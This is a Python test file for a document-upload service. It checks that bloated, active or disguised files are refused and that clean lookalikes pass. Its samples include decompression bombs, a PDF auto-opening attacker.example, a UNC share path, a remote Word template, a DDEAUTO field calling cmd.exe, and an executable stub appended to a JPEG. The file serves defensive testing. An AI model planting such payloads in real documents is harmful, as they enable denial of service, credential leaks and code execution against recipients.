"""Files made to swell, to run or to be taken for others; and clean ones that only look a little like them."""

import io
import os
import socket
import zipfile
from collections.abc import Callable
from contextlib import suppress
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit

import pikepdf
import pytest
import requests
from pikepdf import Dictionary, Name, String
from PIL import PngImagePlugin

from e2e.attacks.watching import told
from e2e.client import Client, Json, Refused, wait_for
from e2e.conftest import System
from infra.local.home import PORTS, Home, Ports
from services.common import limits
from services.documents.core.blobs import Blobs
from services.documents.files.inspect.office import DOCX, XLSX
from services.documents.tests.samples import image, jpeg_in_scans, lasting_pdf, office, pdf, swelling_pdf

pytestmark = [pytest.mark.slow, pytest.mark.timeout(180)]

BUCKET = "onestop-documents"


@pytest.fixture(scope="module")
def lan(system: System) -> Client:
    return Client(system.base_url).log_in("lan")


@pytest.fixture(scope="module")
def hung(system: System) -> Client:
    return Client(system.base_url).log_in("hung")


def refusal(act: Callable[[], object]) -> Refused:
    with pytest.raises(Refused) as caught:
        act()
    return caught.value


def own(content: Callable[[bytes], bytes] = pdf) -> bytes:
    """A file like no other."""
    return content(os.urandom(8).hex().encode())


def a_million_entries() -> bytes:
    content = office()
    end = content.rfind(b"PK\x05\x06")
    at = int.from_bytes(content[end + 16 : end + 20], "little")
    directory = content[at:end]
    directory += directory[: directory.index(b"PK\x01\x02", 4)] * 1_500_000
    return (
        content[:at] + directory + content[end : end + 12] + len(directory).to_bytes(4, "little") + content[end + 16 :]
    )


SWELLING: dict[str, Callable[[], bytes]] = {
    "objects of a PDF": lambda: swelling_pdf(900 * limits.MIB),
    "members packed by bzip2": lambda: office(
        parts={"word/big.xml": bytes(150 * limits.MIB)}, compression=zipfile.ZIP_BZIP2
    ),
    "members packed by LZMA": lambda: office(
        parts={"word/big.xml": bytes(150 * limits.MIB)}, compression=zipfile.ZIP_LZMA
    ),
    "a million and a half entries": a_million_entries,
    "passes of a JPEG": lambda: jpeg_in_scans(500),
}


@pytest.mark.parametrize("what", SWELLING)
def test_a_file_that_swells_is_refused_and_the_process_that_seals_papers_stays_small(
    system: System, lan: Client, what: str
) -> None:
    problem = refusal(lambda: lan.upload("giay.pdf", SWELLING[what]()))
    assert problem.status == 415
    assert peak_memory(system, "services.documents") < 512 * limits.MIB
    assert lan.upload("giay.pdf", own())["state"] == "clean"


def peak_memory(system: System, module: str) -> int:
    """The most memory the process of a service has held."""
    return int(status_of(process_of(system, module))["VmHWM"].split()[0]) * limits.KIB


def process_of(system: System, module: str) -> Path:
    """Where the kernel tells of the process of a service."""
    home = f"ONESTOP_HOME={system.home}".encode()
    for process in Path("/proc").glob("[0-9]*"):
        with suppress(FileNotFoundError, ProcessLookupError, PermissionError):  # it ended meanwhile, or is not ours
            arguments = (process / "cmdline").read_bytes().split(b"\0")
            if module.encode() in arguments and home in (process / "environ").read_bytes().split(b"\0"):
                return process
    raise LookupError(module)


def status_of(process: Path) -> dict[str, str]:
    return dict(line.split(":", 1) for line in (process / "status").read_text().splitlines() if ":" in line)


def at_work(system: System) -> bool:
    """Whether a process that looks into files for this system is busy."""
    parent = process_of(system, "services.documents").name
    for process in Path("/proc").glob("[0-9]*"):
        with suppress(FileNotFoundError, ProcessLookupError):  # it ended meanwhile
            status = status_of(process)
            if status["PPid"].strip() == parent and status["State"].strip().startswith("R"):
                return True
    return False


def sent(system: System, client: Client, content: bytes) -> socket.socket:
    """A connection over which a whole upload has been sent; nobody reads the answer."""
    address = urlsplit(system.base_url)
    connection = socket.create_connection((address.hostname, address.port or 80))
    head = (
        f"POST /api/v1/files?name=giay.pdf HTTP/1.1\r\nHost: {address.netloc}\r\n"
        f"Authorization: {client.authorization}\r\nContent-Length: {len(content)}\r\n\r\n"
    )
    connection.sendall(head.encode() + content)
    return connection


def test_files_that_take_long_keep_nobody_else_waiting_and_end_with_those_who_sent_them(
    system: System, lan: Client, hung: Client
) -> None:
    """More of them than the gateway has threads for ordinary requests, sent by one account."""
    lan.upload("giay.pdf", own())
    slow = [sent(system, lan, lasting_pdf()) for _ in range(24)]
    try:
        wait_for("a file being looked into", lambda: at_work(system), bool)
        assert hung.upload("giay.pdf", own())["state"] == "clean"
        assert at_work(system)
    finally:
        for connection in slow:
            connection.close()
    wait_for("its end", lambda: not at_work(system), bool, seconds=5)
    assert lan.upload("giay.pdf", own())["state"] == "clean"


def relation(kind: str, target: str, mode: str = "External") -> bytes:
    return (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" '
        f'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/{kind}" Target="{target}" '
        f'TargetMode="{mode}"/></Relationships>'
    ).encode()


def opening(**action: Any) -> bytes:
    return pdf(OpenAction=Dictionary(**action))


ACTING: dict[str, Callable[[], bytes]] = {
    "an address opened with the file": lambda: opening(S=Name.URI, URI=String("http://attacker.example/")),
    "a file of another computer": lambda: pdf(
        Hidden=Dictionary(Type=Name.Filespec, F=String("\\\\attacker.example\\share\\a.pdf"))
    ),
    "pages of another file": lambda: pdf(Hidden=Dictionary(Ref=Dictionary(F=String("other.pdf"), Page=0))),
    "a template from elsewhere": lambda: office(
        parts={
            "word/_rels/settings.xml.rels": relation("attachedTemplate", "http://attacker.example/a.dotm", "external")
        }
    ),
    "a page put in": lambda: office(
        parts={"word/_rels/document.xml.rels": relation("aFChunk", "chunk.html", "Internal")}
    ),
    "a program called by a field": lambda: office(
        parts={"word/document.xml": b'<w:p xmlns:w="w"><w:fldSimple w:instr="DDEAUTO c:\\\\cmd.exe"/></w:p>'}
    ),
    "entities": lambda: office(parts={"customXml/item1.xml": b'<!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>'}),
    "a page after the end": lambda: pdf() + b"<script>alert(1)</script>",
    "a program after the end": lambda: image("JPEG") + b"MZ\x90\0" + bytes(99),
    "an archive after the end": lambda: image("PNG") + office(),
}


@pytest.mark.parametrize("what", ACTING)
def test_a_file_that_acts_fetches_or_hides_is_refused_saying_what_to_do(lan: Client, what: str) -> None:
    problem = refusal(lambda: lan.upload("giay.pdf", ACTING[what]()))
    assert problem.status == 415
    assert any(word in problem.problem["detail"] for word in ("Print", "print", "Export", "save"))


@pytest.mark.parametrize("name", ["giay.hta", "giay.html", "giay.js", "giay.exe", "giay.svg", "giay.docm", "giay"])
def test_a_file_is_served_under_a_name_that_ends_as_its_content_is(system: System, lan: Client, name: str) -> None:
    file = lan.upload(name, own())
    assert file["file_name"] == f"{name}.pdf"
    answer = requests.get(
        f"{system.base_url}/api/v1/files/{file['file_id']}/content",
        headers={"Authorization": lan.authorization},
        timeout=30,
    )
    assert answer.headers["Content-Disposition"].endswith(f"''{name}.pdf")
    assert answer.headers["Content-Type"] == "application/pdf"


def by_its_owner_locked() -> bytes:
    out = io.BytesIO()
    with pikepdf.open(io.BytesIO(own())) as document:
        document.save(out, encryption=pikepdf.Encryption(user="", owner="x", R=6))
    return out.getvalue()


def pointing_beside() -> bytes:
    content = own()
    at = content.rfind(b"startxref") + len(b"startxref\n")
    return content[:at] + b"%d\n%%%%EOF\n" % (int(content[at:].split()[0]) - 2)


def much_said_of_an_image() -> bytes:
    info = PngImagePlugin.PngInfo()
    info.add_itxt("XML:com.adobe.xmp", "x" * 1_200_000, zip=True)
    return image("PNG", pnginfo=info)


def picture_called(name: str) -> bytes:
    document = pikepdf.new()
    document.add_blank_page()
    picture = pikepdf.Stream(document, b"\0", Type=Name.XObject, Subtype=Name.Image, Width=1, Height=1)
    document.pages[0].Resources = Dictionary(XObject=Dictionary({name: document.make_indirect(picture)}))
    out = io.BytesIO()
    document.save(out)
    return out.getvalue()


ENDS_AN_ARCHIVE = b"PK\x05\x06" + bytes(range(32, 120))
CLEAN: dict[str, tuple[Callable[[], bytes], str]] = {
    "L5, a PDF": (lambda: pdf(ENDS_AN_ARCHIVE), "application/pdf"),
    "L5, a JPEG": (lambda: image("JPEG", comment=ENDS_AN_ARCHIVE), "image/jpeg"),
    "L6, a mark in front": (lambda: b"\xef\xbb\xbf" + own(), "application/pdf"),
    "L6, a line in front": (lambda: b"\n" + own(), "application/pdf"),
    "L6, a mark in front of a document": (lambda: b"\xef\xbb\xbf" + office(), DOCX),
    "L7": (by_its_owner_locked, "application/pdf"),
    "L8": (pointing_beside, "application/pdf"),
    "L14": (much_said_of_an_image, "image/png"),
    "L18, JS": (lambda: picture_called("/JS"), "application/pdf"),
    "L18, AA": (lambda: picture_called("/AA"), "application/pdf"),
    "L21, a chart": (
        lambda: office(parts={"word/embeddings/Microsoft_Excel_Sheet1.xlsx": office("spreadsheet")}),
        DOCX,
    ),
    "L21, letters by chance": (lambda: office("spreadsheet", {"xl/printerSettings1.bin": b"MZ" + bytes(99)}), XLSX),
    "a link": (
        lambda: office(parts={"word/_rels/document.xml.rels": relation("hyperlink", "https://dichvucong.gov.vn/")}),
        DOCX,
    ),
}


@pytest.mark.parametrize("which", CLEAN)
def test_a_clean_file_is_taken_whatever_it_looks_like(hung: Client, which: str) -> None:
    make, kind = CLEAN[which]
    content = make()
    file = hung.upload("giay", content)
    assert (file["media_type"], file["size"]) == (kind, len(content))


def test_a_blank_in_a_name_stays_a_blank(hung: Client) -> None:
    assert hung.upload("Giấy\u00a0khai\u00a0sinh.pdf", own())["file_name"] == "Giấy khai sinh.pdf"


def test_an_account_that_uploads_without_end_is_told_to_use_what_it_has(system: System) -> None:
    agency = Client(system.base_url).log_in("agency")
    content = own()

    def upload_without_end() -> None:
        for _ in range(limits.UPLOADS_WAITING + 1):
            agency.upload("giay.pdf", content)

    problem = refusal(upload_without_end)
    assert (problem.status, problem.code) == (409, "uploads-full")
    assert "File the cases" in problem.problem["detail"]


def test_bytes_replaced_in_the_store_are_not_served_as_what_was_taken_in(system: System, lan: Client) -> None:
    content = own()
    file = lan.upload("giay.pdf", content)
    path = f"/files/{file['file_id']}/content"
    assert lan.content(path) == content
    digest = bytes.fromhex(file["sha256"])
    other = content.replace(b"200", b"300", 1)
    blobs = store_of(system)
    blobs.put(io.BytesIO(other), len(other), digest, "application/pdf")
    for headers in ({}, {"Range": "bytes=0-9"}):
        answer = requests.get(
            f"{system.base_url}/api/v1{path}", headers={"Authorization": lan.authorization, **headers}, timeout=30
        )
        assert (answer.status_code, answer.json()["code"]) == (500, "stored-bytes-altered")
    assert told(system.home, "bytes_altered", target=file["sha256"])
    blobs.put(io.BytesIO(content), len(content), digest, "application/pdf")
    assert lan.content(path) == content


def store_of(system: System) -> Blobs:
    """The store behind the system, as somebody with its keys reaches it."""
    offset = (urlsplit(system.base_url).port or 0) - PORTS["gateway"]
    home = Home(system.home, Ports(offset))
    keys: Json = home.secrets()
    return Blobs(f"http://{home.ports.local('storage')}", keys["s3_access_key"], keys["s3_secret_key"], BUCKET)
